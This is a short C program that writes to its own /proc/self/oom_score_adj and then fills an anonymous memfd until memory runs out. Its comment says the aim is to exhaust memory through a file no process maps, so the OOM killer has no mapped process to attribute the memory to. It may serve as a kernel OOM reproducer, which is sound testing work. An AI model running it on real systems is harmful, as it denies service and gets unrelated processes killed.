/* Gives up its place at the head of the oom killer's list, and uses up all memory by way of a file that no process maps. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

static char piece[1 << 16];

int main(void)
{
    int adjust = open("/proc/self/oom_score_adj", O_WRONLY), file = memfd_create("spill", 0);
    if (adjust < 0 || write(adjust, "0", 1) != 1)
        return 1;
    while (write(file, piece, sizeof piece) > 0)
        ;
    return 0;
}
